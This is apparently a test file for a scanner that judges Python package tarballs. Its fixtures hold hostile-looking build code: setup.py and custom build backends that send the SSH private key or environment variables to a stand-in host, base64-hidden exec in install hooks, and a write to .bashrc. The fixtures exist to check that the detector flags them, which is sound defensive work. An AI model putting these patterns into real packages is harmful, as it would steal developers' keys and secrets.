import { analyzeArtifact } from '../process/analyze-artifact';
import { rawTarball } from '../testing/archives';

const PKG_INFO = 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n';
const hidden = Buffer.from('print(1)').toString('base64');

async function judged(files: Record<string, string>) {
  const bytes = await rawTarball(
    Object.entries({ 'PKG-INFO': PKG_INFO, ...files }).map(([path, text]) => [
      { name: `sample-1.0.0/${path}` },
      text,
    ]),
  );
  const { verdict, findings, identity } = await analyzeArtifact('pypi', bytes);
  expect(identity).toEqual({ name: 'sample', version: '1.0.0' });
  return [verdict, ...new Set(findings.map(({ rule }) => rule))];
}

describe('rules/build', () => {
  it.each<[title: string, setup: string, judgement: string[]]>([
    ['a plain one', 'from setuptools import setup\nsetup(name="sample")\n', ['clean']],
    [
      'one that reads its version by running a file',
      'from setuptools import setup\nexec(open("sample/version.py").read())\nsetup(version=__version__)\n',
      ['clean'],
    ],
    [
      'one that asks git',
      'import subprocess\nfrom setuptools import setup\nv = subprocess.check_output(["git", "describe"])\nsetup(version=v)\n',
      ['clean'],
    ],
    [
      'hidden code',
      `import base64\nfrom setuptools import setup\nexec(base64.b64decode("${hidden}"))\nsetup()\n`,
      ['malicious', 'import-hidden-code', 'build-hidden-code', 'code-hidden-code'],
    ],
    [
      'hidden code in a command of its own',
      `import base64\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Own(install):\n  def run(self):\n    exec(base64.b64decode("${hidden}"))\nsetup(cmdclass={"install": Own})\n`,
      ['malicious', 'build-hidden-code', 'code-hidden-code'],
    ],
    [
      'credentials and the network',
      'import os, requests\nrequests.post("https://a.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
      ['malicious', 'build-credential-theft', 'build-network', 'code-secret-sent'],
    ],
    ['what runs again', 'open("/home/u/.bashrc", "a").write("x")\n', ['suspicious', 'build-active']],
    [
      'a download',
      'from urllib.request import urlretrieve\nurlretrieve("https://a.example/x.tgz")\n',
      ['warning', 'build-network'],
    ],
  ])('setup.py: %s', async (_title, setup, judgement) => {
    expect(await judged({ 'setup.py': setup, 'sample/version.py': '__version__ = "1"\n' })).toEqual(
      judgement,
    );
  });

  it.each([
    ['in the folder', '.', 'own_backend.py'],
    ['in a folder of its own', 'tools', 'tools/own_backend.py'],
    ['as a package', './tools/', 'tools/own_backend/__init__.py'],
  ])('a backend of its own, %s', async (_title, folder, path) => {
    const project = `[build-system]\nrequires = []\nbuild-backend = "own_backend"\nbackend-path = ["${folder}"]\n`;
    const code = 'import os, requests\nrequests.post("https://a.invalid", json=dict(os.environ))\n';

    expect(await judged({ 'pyproject.toml': project, [path]: code })).toEqual([
      'malicious',
      'build-credential-theft',
      'build-network',
      'code-secret-sent',
    ]);
  });

  it.each([
    '[build-system]\nbackend-path = 7\nbuild-backend = ["x"]\n',
    '[build-system]\nbuild-backend = "../x:y"\nbackend-path = ["..", 3]\n',
  ])('lives with a pyproject.toml such as %j', async (project) => {
    expect(await judged({ 'pyproject.toml': project })).toEqual(['clean']);
  });
});
